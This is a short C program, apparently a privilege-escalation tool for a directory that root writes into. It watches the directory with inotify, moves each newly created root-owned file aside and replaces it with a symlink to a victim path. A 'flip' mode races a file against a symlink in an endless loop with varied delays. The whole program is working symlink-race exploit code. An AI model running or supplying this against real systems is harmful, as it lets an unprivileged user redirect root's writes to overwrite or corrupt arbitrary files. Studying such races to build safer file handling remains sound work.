/* A user who owns a directory that root writes to. Each new name in it is moved away at once and becomes a link to a victim;
   with "flip", one name becomes that link and the file again, for ever. */
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
  char events[65536], name[4096], away[4200];
  if (argc < 4 || chdir(argv[2]) != 0) return 1;
  if (strcmp(argv[1], "flip") == 0) {
    for (unsigned round = 0;; round++) {
      snprintf(away, sizeof away, ".away");
      if (rename(argv[4], away) == 0) symlink(argv[3], argv[4]);
      for (volatile int i = 0; i < (int)(round * 7919 % 200000); i++);
      unlink(argv[4]);
      rename(away, argv[4]);
      for (volatile int i = 0; i < (int)(round * 104729 % 200000); i++);
    }
  }
  int watch = inotify_init();
  inotify_add_watch(watch, ".", IN_CREATE);
  puts("ready"); fflush(stdout);
  for (unsigned moved = 0;;) {
    int length = read(watch, events, sizeof events);
    for (int at = 0; at < length;) {
      struct inotify_event *event = (void *)(events + at);
      at += sizeof *event + event->len;
      struct stat found;
      if (event->len == 0 || lstat(event->name, &found) != 0 || S_ISLNK(found.st_mode) || found.st_uid == getuid()) continue;
      snprintf(name, sizeof name, "%s", event->name);
      snprintf(away, sizeof away, "away.%u.%d", moved++, getpid());
      if (rename(name, away) == 0) symlink(argv[3], name);
    }
  }
}
